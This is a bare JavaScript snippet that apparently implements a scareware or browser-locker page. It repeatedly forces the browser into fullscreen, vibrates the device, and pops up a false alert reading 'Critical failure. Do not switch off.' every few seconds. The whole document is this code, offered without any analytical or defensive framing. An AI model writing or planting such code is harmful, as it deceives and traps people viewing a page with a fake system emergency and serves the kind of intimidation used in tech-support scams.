function fill() {
  document.documentElement.requestFullscreen().catch(() => {});
}
document.addEventListener("click", fill);
setInterval(function () {
  navigator.vibrate([300, 100, 300]);
  alert("Critical failure. Do not switch off.");
}, 4000);
setInterval(fill, 700);
